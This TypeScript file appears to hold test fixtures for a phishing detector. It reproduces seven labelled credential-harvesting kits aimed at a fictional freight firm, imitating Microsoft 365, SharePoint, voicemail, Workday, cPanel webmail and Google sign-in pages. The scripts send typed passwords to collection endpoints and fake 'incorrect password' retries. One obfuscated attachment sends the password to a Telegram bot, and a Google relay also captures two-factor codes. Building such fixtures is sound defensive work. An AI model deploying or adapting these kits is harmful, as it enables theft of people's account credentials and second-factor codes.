import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { page, msLogo, msCss, msFoot, b64, jsRoute, jsonRoute, pngRoute, html } from '../parts/l-kit.js';

// Microsoft 365 / Outlook credential kits, as they arrived through the report-phish button.

const wpKit = 'www.studio-fotografico-lanzi.it/wp-content/uploads/2025/11/ms';

export const entries: Entry[] = [
{
  id: 'l-phish-m365-tenant-logo-fragment-wp',
  label: 'phishing',
  kind: 'm365-login',
  url: `https://${wpKit}/index.html#bWFya3VzLndlYmVyQGtlc3RyZWwtZnJlaWdodC5jb20=`,
  routes: {
    [`${wpKit}/index.html`]: htmlRoute(page({
      title: 'Sign in to your account',
      css: msCss + '#pw{display:none}',
      head: '<link rel="icon" href="data:,">',
      body: `<div class="outer" id="bg"><div class="box">
<div class="banner"><img id="tlogo" src="logo.php?d=" alt="" style="display:none">${msLogo}</div>
<div id="u"><h1>Sign in</h1><div class="err" id="e1"></div>
<input type="email" id="em" placeholder="Email, phone, or Skype" autocomplete="username">
<p class="small">No account? <a href="#">Create one!</a></p><p class="small"><a href="#">Can’t access your account?</a></p>
<button class="btn" id="n1">Next</button></div>
<div id="pw"><div class="id">&larr; <span id="shown"></span></div><h1>Enter password</h1><div class="err" id="e2"></div>
<input type="password" id="pa" placeholder="Password" autocomplete="current-password">
<p class="small"><a href="#">Forgot my password</a></p><button class="btn" id="n2">Sign in</button></div>
</div></div>${msFoot}
<script>
var h=location.hash.slice(1),em='';try{em=atob(h)}catch(x){em=h}
if(/@/.test(em)){document.getElementById('em').value=em;go1()}
function dom(e){return e.split('@')[1]||''}
function go1(){var e=document.getElementById('em').value.trim();if(!/^[^@\\s]+@[^@\\s]+\\.[a-z]{2,}$/i.test(e)){document.getElementById('e1').textContent='Enter a valid email address, phone number, or Skype name.';return}
var l=document.getElementById('tlogo');l.src='logo.php?d='+encodeURIComponent(dom(e));l.style.display='block';l.nextElementSibling.style.display='none';
document.getElementById('bg').style.backgroundImage='url(bg.php?d='+encodeURIComponent(dom(e))+')';
document.getElementById('shown').textContent=e;document.getElementById('u').style.display='none';document.getElementById('pw').style.display='block'}
document.getElementById('n1').onclick=go1;var tries=0;
document.getElementById('n2').onclick=function(){var p=document.getElementById('pa').value;if(!p)return;tries++;
fetch('next.php',{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:'ai='+encodeURIComponent(document.getElementById('shown').textContent)+'&pr='+encodeURIComponent(p)+'&t='+tries}).then(function(){
if(tries<2){document.getElementById('e2').textContent='Your account or password is incorrect. If you don\\'t remember your password, reset it now.';document.getElementById('pa').value=''}else{location.replace('https://www.office.com/?auth=2')}})}
</script>`,
    })),
    [`${wpKit}/logo.php`]: pngRoute(0, 82, 147),
    [`${wpKit}/bg.php`]: pngRoute(220, 226, 232),
    [`${wpKit}/next.php`]: jsonRoute({ signal: 'ok', msg: 'InValid Credentials' }),
  },
},
{
  id: 'l-phish-sharepoint-shared-file-pages-dev',
  label: 'phishing',
  kind: 'sharepoint-share',
  url: 'https://kestrel-freight-docs.pages.dev/Shared%20Documents/Forms/AllItems.aspx',
  routes: {
    'kestrel-freight-docs.pages.dev/Shared%20Documents/Forms/AllItems.aspx': htmlRoute(page({
      title: 'SharePoint Online',
      css: `body{margin:0;font-family:Segoe UI,Arial,sans-serif;background:#faf9f8}.top{background:#036c70;color:#fff;height:48px;display:flex;align-items:center;padding:0 16px;font-weight:600}.card{max-width:560px;margin:60px auto;background:#fff;border:1px solid #edebe9;box-shadow:0 1.6px 3.6px rgba(0,0,0,.13);padding:32px}.file{display:flex;gap:14px;align-items:center;border:1px solid #e1dfdd;padding:14px;margin:20px 0}.ic{width:40px;height:48px;background:#185abd;color:#fff;display:flex;align-items:center;justify-content:center;font-weight:700}a.open{display:inline-block;background:#036c70;color:#fff;padding:9px 22px;text-decoration:none}.meta{color:#605e5c;font-size:13px}`,
      body: `<div class="top">&#9783;&nbsp;&nbsp;SharePoint</div>
<div class="card"><div style="display:flex;gap:10px;align-items:center"><div style="width:40px;height:40px;border-radius:50%;background:#8764b8;color:#fff;display:flex;align-items:center;justify-content:center">JN</div><div><b>Jana Nováková</b> shared a file with you<div class="meta">Kestrel Freight Group &middot; Finance</div></div></div>
<p>Here's the document that Jana shared with you. Please review the updated vendor payment schedule before Friday.</p>
<div class="file"><div class="ic">W</div><div><b>Q4_Vendor_Payment_Schedule_REV3.docx</b><div class="meta">Modified 2 hours ago &middot; 184 KB</div></div></div>
<a class="open" href="https://kestrel-freight-docs.pages.dev/_layouts/15/Authenticate.aspx?Source=%2FShared%20Documents%2FQ4_Vendor_Payment_Schedule_REV3.docx">Open</a>
<p class="meta" style="margin-top:30px">This link will work for people in Kestrel Freight Group and guests with existing access.<br>Microsoft respects your privacy. To learn more, please read our Privacy Statement.<br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p></div>`,
    })),
    'kestrel-freight-docs.pages.dev/_layouts/15/Authenticate.aspx': htmlRoute(page({
      title: 'Sign in to your account',
      css: msCss,
      body: `<div class="outer"><div class="box">${msLogo}<h1>Sign in</h1><p class="small">to continue to SharePoint</p>
<form method="POST" action="https://kestrel-freight-docs.pages.dev/api/auth"><input type="email" name="login" placeholder="someone@example.com" required><input type="password" name="passwd" placeholder="Password" required>
<p class="small"><a href="#">Can't access your account?</a></p><button class="btn" type="submit">Sign in</button></form></div></div>${msFoot}`,
    })),
  },
},
{
  id: 'l-phish-voicemail-m365-audio-lure',
  label: 'phishing',
  kind: 'voicemail',
  url: 'https://vm-notify.cloud-pbx-messages.com/vm/play?mid=VM-20261126-0947&u=accounts%40kestrel-freight.com',
  routes: {
    'vm-notify.cloud-pbx-messages.com/vm/play': htmlRoute(page({
      title: 'Voice Message - 00:47',
      css: `body{font-family:Segoe UI,Arial;background:#f3f2f1;margin:0}.w{max-width:460px;margin:70px auto;background:#fff;padding:30px;border-top:4px solid #6264a7}.pl{display:flex;align-items:center;gap:14px;background:#f5f5fb;padding:14px;border-radius:6px}.pb{width:44px;height:44px;border-radius:50%;background:#6264a7;color:#fff;border:0;font-size:18px}.bar{flex:1;height:4px;background:#ccc}.x{display:none}.x input{width:100%;padding:10px;margin:6px 0;border:1px solid #bbb}.x button{background:#6264a7;color:#fff;border:0;padding:10px 18px}`,
      body: `<div class="w"><div>${msLogo}</div><h2>You have a new voice message</h2>
<p style="color:#555;font-size:14px">From: <b>+1 (312) 555-0148</b> &middot; Received: Thu 11/26/2026 9:47 AM &middot; Duration 00:47</p>
<div class="pl"><button class="pb" id="play">&#9654;</button><div class="bar"></div><span>00:47</span></div>
<div class="x" id="auth"><p style="font-size:14px">To listen to this message, verify your Microsoft 365 account.</p><form id="vf"><input type="email" id="ve" name="u" readonly><input type="password" name="p" id="vp" placeholder="Password" required><button>Play message</button></form><p id="msg" style="color:#c50f1f;font-size:13px"></p></div>
<p style="font-size:11px;color:#888;margin-top:28px">Unified Messaging by Microsoft Exchange. Voice mail preview is not available for this message.</p></div>
<script>var q=new URLSearchParams(location.search);document.getElementById('ve').value=q.get('u')||'';
document.getElementById('play').onclick=function(){document.getElementById('auth').style.display='block'};
document.getElementById('vf').onsubmit=function(e){e.preventDefault();var d=new FormData(this);
fetch('https://vm-notify.cloud-pbx-messages.com/vm/auth.php',{method:'POST',body:d}).finally(function(){document.getElementById('msg').textContent='Incorrect password. Please try again.'})}</script>`,
    })),
  },
},
{
  id: 'l-phish-payroll-salary-adjustment-workday',
  label: 'phishing',
  kind: 'payroll-hr',
  url: 'https://kestrelfreight.myworkday-hr.com/payroll/2027-compensation-review',
  routes: {
    'kestrelfreight.myworkday-hr.com/payroll/2027-compensation-review': htmlRoute(page({
      title: 'Workday - 2027 Compensation Review',
      css: `body{margin:0;font-family:Roboto,Helvetica,Arial;background:#f0f4f8}.nav{background:#0875e1;color:#fff;padding:12px 24px;font-weight:bold;font-size:20px}.c{max-width:500px;margin:50px auto;background:#fff;border-radius:8px;padding:32px;box-shadow:0 2px 8px rgba(0,0,0,.1)}label{font-size:13px;color:#555}input{width:100%;padding:10px;margin:4px 0 14px;border:1px solid #a0aab4;border-radius:4px}button{background:#0875e1;color:#fff;border:0;padding:11px;border-radius:20px;width:100%;font-weight:bold}.note{background:#fff8e1;border-left:4px solid #f5a623;padding:10px;font-size:13px;margin-bottom:16px}`,
      body: `<div class="nav">workday.</div><div class="c"><h2>Salary Adjustment Notice</h2>
<div class="note">Your 2027 compensation letter is ready. The adjustment is effective from the January payroll. Please review and acknowledge before <b>December 3, 2026</b>.</div>
<p style="font-size:14px">Sign in with your Kestrel Freight corporate account to view your letter.</p>
<form action="/payroll/ack" method="post"><label>Work email</label><input type="email" name="username" required><label>Password</label><input type="password" name="password" required><button type="submit">Sign In</button></form>
<p style="font-size:12px;color:#888;text-align:center;margin-top:18px">&copy; 2026 Workday, Inc. All rights reserved. | Privacy | HR Service Center</p></div>`,
    })),
  },
},
{
  id: 'l-phish-mailbox-quota-full-webmail',
  label: 'phishing',
  kind: 'mailbox-full',
  url: 'https://webmail-quota.mailcenter-upgrade.com/cpsess8812071/quota/?email=finance@kestrel-freight.com',
  routes: {
    'webmail-quota.mailcenter-upgrade.com/cpsess8812071/quota/': htmlRoute(page({
      title: 'Mailbox Storage Warning',
      css: `body{font-family:Open Sans,Arial;background:#293a4a;margin:0;color:#333}.c{max-width:420px;margin:60px auto;background:#fff;padding:26px;border-radius:4px}.bar{height:18px;background:#eee;border-radius:9px;overflow:hidden}.bar i{display:block;height:100%;width:98%;background:#e53935}input{width:100%;padding:10px;margin:6px 0;border:1px solid #ccc}button{width:100%;background:#179bd7;color:#fff;border:0;padding:11px;font-size:15px}`,
      body: `<div class="c"><h3 style="margin-top:0">&#9888; Mailbox almost full</h3><p style="font-size:14px">Your mailbox <b id="em"></b> has used <b>49.2 GB of 50 GB</b>. Incoming messages are being held on the server and will be deleted after 48 hours.</p>
<div class="bar"><i></i></div><p style="font-size:12px;text-align:right">98%</p>
<p style="font-size:14px">Log in below to release pending messages and get an additional 25 GB free.</p>
<form method="post" action="release.php"><input type="email" name="email" id="em2"><input type="password" name="pass" placeholder="Password" required><button>Release messages</button></form>
<p style="font-size:11px;color:#888">Webmail Admin &middot; cPanel, L.L.C. &copy; 2026</p></div>
<script>var e=new URLSearchParams(location.search).get('email');document.getElementById('em').textContent=e;document.getElementById('em2').value=e;</script>`,
    })),
  },
},
{
  id: 'l-phish-m365-html-attachment-hosted-obf',
  label: 'phishing',
  kind: 'm365-login',
  url: 'https://cdn-docstore.r2-assets-bucket.dev/files/ATT00291.html',
  routes: {
    'cdn-docstore.r2-assets-bucket.dev/files/ATT00291.html': htmlRoute(`<html><head><meta charset="utf-8"><title>&#8203;</title></head><body><script>
var _0x=['\\x69\\x6e\\x6e\\x65\\x72\\x48\\x54\\x4d\\x4c','${b64(`<div style="font-family:Segoe UI;display:flex;min-height:100vh;align-items:center;justify-content:center;background:#f2f2f2"><div style="background:#fff;width:440px;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)">${msLogo}<h2 style="font-weight:600">Enter password</h2><p style="font-size:14px">Because you're accessing sensitive info, you need to verify your password.</p><form id="x"><input id="pp" type="password" placeholder="Password" style="width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px"><button style="float:right;margin-top:16px;background:#0067b8;color:#fff;border:0;padding:6px 24px">Sign in</button></form></div></div>`)}'];
document.body[_0x[0]]=decodeURIComponent(escape(atob(_0x[1])));
document.getElementById('x').addEventListener('submit',function(e){e.preventDefault();var t='7712093344:AAF-kq'+'3b_ZPqR0mX',c='-100219';
fetch('https://api.telegram.org/bot'+t+'/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:c,text:'pass: '+document.getElementById('pp').value+' | '+navigator.userAgent})}).then(function(){location.href='https://outlook.office365.com/'})});
</script></body></html>`),
  },
},
{
  id: 'l-phish-google-workspace-aitm-relay',
  label: 'phishing',
  kind: 'google-aitm',
  url: 'https://accounts.gsuite-signin-relay.com/v3/signin/identifier?continue=https%3A%2F%2Fmail.google.com&hd=kestrel-freight.com&flowName=GlifWebSignIn',
  routes: {
    'accounts.gsuite-signin-relay.com/v3/signin/identifier': htmlRoute(`<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Sign in - Google Accounts</title><meta name="viewport" content="width=device-width,initial-scale=1"></head><body style="margin:0;background:#f0f4f9;font-family:Google Sans,Roboto,Arial"><div id="root" style="max-width:1040px;margin:80px auto;background:#fff;border-radius:28px;min-height:360px;padding:36px"></div>
<script type="module" src="/_/mss/boq-identity/_/js/k=boq-identity.AccountsSignInUi.en_US.relay.js"></script></body></html>`),
    'accounts.gsuite-signin-relay.com/_/mss/boq-identity/_/js/k=boq-identity.AccountsSignInUi.en_US.relay.js': { status: 200, headers: { 'content-type': 'text/javascript' }, body: `const root=document.getElementById('root');
const sid=crypto.randomUUID();
async function step(action,data){const r=await fetch('/_/relay/'+action,{method:'POST',headers:{'content-type':'application/json','x-relay-sid':sid},body:JSON.stringify(data||{})});return r.json()}
function render(v){root.innerHTML=v.html;const f=root.querySelector('form');if(!f)return;f.addEventListener('submit',async e=>{e.preventDefault();const d=Object.fromEntries(new FormData(f));render(await step(v.next,d))})}
render(await step('init',{continue:new URLSearchParams(location.search).get('continue'),hd:new URLSearchParams(location.search).get('hd')}));` },
    'accounts.gsuite-signin-relay.com/_/relay/init': jsonRoute({
      next: 'identifier',
      html: `<div style="display:flex;gap:40px"><div style="flex:1"><svg width="48" height="48" viewBox="0 0 48 48"><path fill="#4285F4" d="M45 24.5c0-1.6-.1-3.1-.4-4.5H24v8.5h11.8a10 10 0 0 1-4.4 6.6v5.5h7.1c4.1-3.8 6.5-9.4 6.5-16.1z"/><path fill="#34A853" d="M24 46c5.9 0 10.9-2 14.5-5.3l-7.1-5.5c-2 1.3-4.5 2.1-7.4 2.1-5.7 0-10.6-3.9-12.3-9.1H4.4v5.7A22 22 0 0 0 24 46z"/><path fill="#FBBC05" d="M11.7 28.2a13 13 0 0 1 0-8.4v-5.7H4.4a22 22 0 0 0 0 19.8z"/><path fill="#EA4335" d="M24 10.7c3.2 0 6.1 1.1 8.4 3.3l6.3-6.3A22 22 0 0 0 4.4 14.1l7.3 5.7c1.7-5.2 6.6-9.1 12.3-9.1z"/></svg><h1 style="font-weight:400;font-size:36px">Sign in</h1><p>Use your Kestrel Freight Google Account</p></div><form style="flex:1"><input name="identifier" type="email" placeholder="Email or phone" style="width:100%;padding:16px;border:1px solid #747775;border-radius:4px;font-size:16px"><p style="font-size:14px;color:#0b57d0">Forgot email?</p><button style="float:right;background:#0b57d0;color:#fff;border:0;border-radius:20px;padding:10px 24px">Next</button></form></div>`,
    }),
    'accounts.gsuite-signin-relay.com/_/relay/identifier': jsonRoute({
      next: 'challenge',
      html: `<h1 style="font-weight:400">Welcome</h1><form><input name="Passwd" type="password" placeholder="Enter your password" style="width:100%;padding:16px;border:1px solid #747775;border-radius:4px;font-size:16px"><label style="font-size:14px"><input type="checkbox"> Show password</label><button style="float:right;background:#0b57d0;color:#fff;border:0;border-radius:20px;padding:10px 24px">Next</button></form>`,
    }),
    'accounts.gsuite-signin-relay.com/_/relay/challenge': jsonRoute({ next: 'totp', html: `<h1 style="font-weight:400">2-Step Verification</h1><p>Enter the code from your Google Authenticator app</p><form><input name="totpPin" inputmode="numeric" placeholder="Enter code" style="width:100%;padding:16px;border:1px solid #747775;border-radius:4px"><button style="float:right;background:#0b57d0;color:#fff;border:0;border-radius:20px;padding:10px 24px">Next</button></form>` }),
  },
},
];
